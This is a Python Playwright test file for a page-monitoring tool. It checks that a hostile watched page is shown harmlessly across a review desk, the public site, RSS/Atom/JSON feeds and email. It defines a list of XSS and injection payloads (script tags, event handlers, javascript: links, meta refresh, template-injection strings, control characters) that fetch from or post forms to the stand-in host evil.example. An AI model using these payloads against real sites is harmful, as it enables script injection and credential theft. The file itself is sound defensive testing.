"""A page written to attack whoever reads about it, through capture, desk, site, feeds and mail, into a real browser.

Every view is opened in a browser that keeps to no Content-Security-Policy, so that nothing leans on it: nothing of the
page may run, nothing may be asked of another site, nothing may lead or send anybody elsewhere. What the browser is good
for is shown first: opened as it is, the same page runs and asks.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from email import message_from_bytes
from email.policy import default
from html import escape
from pathlib import Path
from socket import socket
from urllib.parse import quote

import feedparser
import pytest
from playwright.sync_api import Browser

from monitor.model.alert import Alert
from monitor.model.subscriber import Consent
from monitor.pipeline import pins, review, rules, subscribe
from monitor.pipeline.check import check
from monitor.pipeline.deliver import deliver
from monitor.pipeline.publish import publish
from monitor.pipeline.review import Decider
from monitor.render.safe import clean
from monitor.wiring import token
from tests.browsing import Window, browser, window
from tests.contract.servers import Request, answer, serving
from tests.story.desk import Desk, served_desk
from tests.story.installed import ENTRY
from tests.story.lumen import DEADLINE, policy

pytestmark = pytest.mark.browser

ADA = Decider("ada", "read both captures")
THEIRS = "https://evil.example"
RUN = f"alert(1);fetch('{THEIRS}/ran')"
# Words that are markup wherever they are put in as they are: text, attribute, comment, style, CDATA, template, address.
TRICKS = (
    f"<script>{RUN}</script>",
    f'<img src={THEIRS}/img onerror="{RUN}"><svg onload="{RUN}"></svg>',
    f"</title></textarea></style></script>--><script>{RUN}</script>]]><script>{RUN}</script>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe><base href="{THEIRS}/">',
    f"<style>@import url({THEIRS}/css);*{{background:url({THEIRS}/bg)}}</style>",
    f'" autofocus onfocus="{RUN}" style="background:url({THEIRS}/style)" x="',
    f"' onmouseover='{RUN}' {{{{ 7 * 7 }}}} {{% raise %}} ${{7*7}}",
    f'<meta http-equiv=refresh content="0;url={THEIRS}/away"><a href="javascript:{RUN}">here</a>',
    "\u202egnp.exe\u2066 \u200f \x00\x1b[2J",  # reads backwards, or clears a terminal
)
ALL = " ".join(TRICKS)
WAYS = (
    f'<a href="javascript:{escape(RUN)}">objection form</a>, <a href="data:text/html,{escape(TRICKS[0])}">data form</a>'
    f' or <a href="{THEIRS}/{escape(TRICKS[5])}">other form {escape(ALL)}</a>'
)
LIVE = (
    f'{ALL}<form action="{THEIRS}/steal" method="post"><label>Reason {escape(ALL)}<input name="why" required></label>'
    f'<select name="country"><option>{escape(ALL)}</option></select>'
    f'<button formaction="{THEIRS}/steal">Object</button></form>'
)


def hostile(*notices: str) -> bytes:
    """Return the policy with the attack in its text, headings, links and form as words, and once as live markup."""
    page = policy(f"You can object to AI training with the {WAYS}.", *notices).decode()
    page = page.replace("Your right to object", f"Your right to object {escape(ALL)}")
    return page.replace("</main>", f"{LIVE}</main>").encode()


BEFORE = hostile()
AFTER = hostile(
    *(f"To object to AI training {way} you must now log in. {escape(trick)}" for way, trick in enumerate(TRICKS)),
    DEADLINE,
)
TAG = '"\'><img src=x onerror=alert(1)>"'  # headers are shown at the desk
# What a browser shows of a page that could do harm: where links and forms lead, what loads, what runs.
HARMS = """() => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const led = (address) => new URL(address || location.href, document.baseURI);
  const away = (address) => led(address).origin !== location.origin;
  return [
    ...all("[href]").filter((one) => !["http:", "https:", "mailto:"].includes(led(one.getAttribute("href")).protocol)),
    ...all("form").filter((one) => away(one.getAttribute("action"))),
    ...all("script, img, link[rel~=stylesheet], link[rel~=icon]").filter((one) => away(one.src ?? one.href)),
    ...all("[formaction], script:not([src]), body style, base, iframe, object, embed, meta[http-equiv=refresh]"),
    ...all("*").filter((one) => one.getAttributeNames().some((name) => name.startsWith("on"))),
    ...all("[style]").filter((one) => one.getAttribute("style").includes("url")),
  ].map((one) => one.outerHTML.slice(0, 200));
}"""


@dataclass(slots=True)
class Attacker:
    """A server that answers every path with what the page says now."""

    body: bytes = BEFORE

    def respond(self, request: Request, connection: socket) -> None:
        connection.sendall(answer(b"", 404) if request.path == "/robots.txt" else answer(self.body, ETag=TAG))


@dataclass(frozen=True, slots=True)
class Attacked:
    """An installation that watched the page: one alert is told by site, feeds and mail, one waits."""

    desk: Desk
    told: Alert
    waiting: Alert

    @property
    def public(self) -> Path:
        return self.desk.settings.places.public

    @property
    def outbox(self) -> Path:
        return self.desk.settings.places.outbox

    def desk_paths(self) -> list[str]:
        """Return every view that shows something of the page."""
        proof = self.told.evidence
        both = f"changes/{proof.before}..{proof.after}"
        views = ("changed", "beside", "way", "captures")
        return [
            "desk/",
            *(f"desk/alerts/{self.waiting.id}?view={view}" for view in views),
            f"desk/alerts/{self.told.id}",
            f"desk/alerts/{self.told.id}/edit",
            f"desk/alerts/{self.waiting.id}/rule",
            "desk/decided/",
            "desk/rules/",
            *(f"{both}?view={view}" for view in views),
            f"captures/{proof.after}",
            f"desk/since/?page=policy&words={quote(TRICKS[0])}",
            "desk/alerts/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ]

    def site_paths(self) -> list[str]:
        pages = sorted(path.relative_to(self.public).as_posix() for path in self.public.rglob("*.html"))
        words = quote(TRICKS[0])
        return [*pages, f"search/?q={words}", f"said/?page=policy&words={words}"]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    attacker = Attacker()
    with serving(attacker.respond) as server:
        entries = "".join(ENTRY.format(id=name, url=server.url, publish="review") for name in ("policy", "copy"))
        watchlist = f"services:\n  lumen:\n    name: Lumen\npages:{entries}"
        with served_desk(tmp_path_factory.mktemp("attacked"), watchlist) as desk:
            yield _attacked(desk, attacker)


def _attacked(desk: Desk, attacker: Attacker) -> Attacked:
    """Look at both pages before and after they changed; tell of one of them."""
    world = desk.world
    consent = Consent(source="a test", wording="test", asked=world.now(), confirmed=world.now())
    subscribe.add(world, "reader@example.org", consent, token)
    for attacker.body in (BEFORE, AFTER, AFTER):
        desk.clock.turn(timedelta(hours=12))
        for page in world.watchlist.pages:
            check(page, world)
    told, waiting = world.desk.alerts()
    review.approve(told.id, ADA, world)
    pins.pin_quotes(told, ADA, world)
    rules.add(rules.rule_of(rules.proposed(waiting), ADA, world), world)
    publish(world)
    deliver(world)
    return Attacked(desk, review.found(told.id, world), waiting)


@pytest.fixture(scope="module")
def running(chromium: str) -> Iterator[Browser]:
    with browser(chromium) as made:
        yield made


def _in_peace(opened: Window) -> list[str]:
    """Return what is wrong with the page that is shown: what ran, what was asked for, what could do harm."""
    return [*opened.spoke, *opened.outside, *opened.page.evaluate(HARMS)]


def _walked(opened: Window, base: str, paths: list[str]) -> dict[str, list[str]]:
    """Open one page after the other; return what is wrong with which."""
    wrong = {}
    for path in paths:
        opened.page.goto(base + path, wait_until="load")
        wrong[path] = _in_peace(opened)
        opened.spoke.clear()
        opened.outside.clear()
    return {path: each for path, each in wrong.items() if each}


def _shown(opened: Window, html: str) -> list[str]:
    """Show a piece of HTML as a reader without any care of its own would; return what is wrong with it."""
    opened.page.goto("about:blank")
    opened.page.set_content(html, wait_until="load")
    return _in_peace(opened)


def test_the_page_itself_runs_and_asks_elsewhere(running: Browser) -> None:
    with window(running, lawless=True) as opened:
        opened.page.set_content(AFTER.decode().replace("http-equiv=refresh", ""), wait_until="load")

        assert "1" in opened.spoke
        assert {f"{THEIRS}/ran", f"{THEIRS}/img", f"{THEIRS}/css"} <= set(opened.outside)
        assert len(opened.page.evaluate(HARMS)) >= 12


def test_the_desk_shows_it_and_nothing_happens(attacked: Attacked, running: Browser) -> None:
    with window(running, attacked.desk.base, lawless=True) as opened:
        attacked.desk.sign_in(opened)

        wrong = _walked(opened, attacked.desk.base, attacked.desk_paths())
        opened.open(f"{attacked.desk.base}desk/alerts/{attacked.waiting.id}")
        words = opened.page.locator("main").inner_text()

    assert wrong == {}
    assert TRICKS[0] in words  # what it tried is there to be read
    assert words == clean(words)  # and nothing that turns or hides its neighbours


def test_the_desk_asks_for_nothing_that_its_own_policy_forbids(attacked: Attacked, running: Browser) -> None:
    with window(running, attacked.desk.base) as opened:
        attacked.desk.sign_in(opened)

        assert _walked(opened, attacked.desk.base, attacked.desk_paths()) == {}
        assert [said for said in opened.faults if "Content Security Policy" in said] == []


def test_a_capture_as_it_came_is_text(attacked: Attacked, running: Browser) -> None:
    with window(running, attacked.desk.base, lawless=True) as opened:
        attacked.desk.sign_in(opened)
        opened.page.goto(f"{attacked.desk.base}captures/{attacked.told.evidence.after}/source")

        assert opened.page.evaluate("document.contentType") == "text/plain"
        assert opened.page.locator("script, img, form").count() == 0
        assert (opened.spoke, opened.outside) == ([], [])


def test_the_site_tells_it_in_every_language_and_nothing_happens(attacked: Attacked, running: Browser) -> None:
    with window(running, attacked.desk.base, lawless=True) as opened:
        wrong = _walked(opened, attacked.desk.base, attacked.site_paths())
        opened.open(f"{attacked.desk.base}changes/{attacked.told.id}/")
        words = opened.page.locator("main").inner_text()

    assert wrong == {}
    assert TRICKS[0] in words
    assert words == clean(words)


@pytest.mark.parametrize("extension", ["rss", "atom", "json"])
def test_feeds_carry_it_to_careless_readers_and_nothing_happens(
    attacked: Attacked, running: Browser, extension: str
) -> None:
    path = attacked.public / "feeds" / f"all.{extension}"
    if extension == "json":
        entries = [(one["title"], one["content_html"]) for one in json.loads(path.read_bytes())["items"]]
    else:
        read = feedparser.parse(path.read_bytes(), sanitize_html=False).entries
        entries = [(one.title, one.content[0].value) for one in read]
    ((title, content),) = entries

    with window(running, attacked.desk.base, lawless=True) as opened:
        opened.page.goto(f"{attacked.desk.base}feeds/all.{extension}")
        assert (opened.spoke, opened.outside) == ([], [])
        assert _shown(opened, content) == []
        assert TRICKS[0] in opened.page.locator("body").inner_text()
    assert title == clean(title)


def test_the_mail_tells_it_and_nothing_happens(attacked: Attacked, running: Browser) -> None:
    (letter,) = (message_from_bytes(path.read_bytes(), policy=default) for path in attacked.outbox.glob("*.eml"))
    text, html = (part.get_content().replace("\r\n", "\n") for part in letter.iter_parts())

    with window(running, lawless=True) as opened:
        wrong = _shown(opened, html)
        words = opened.page.locator("body").inner_text()

    assert wrong == []
    assert TRICKS[0] in words
    assert text == clean(text)
    assert words == clean(words)
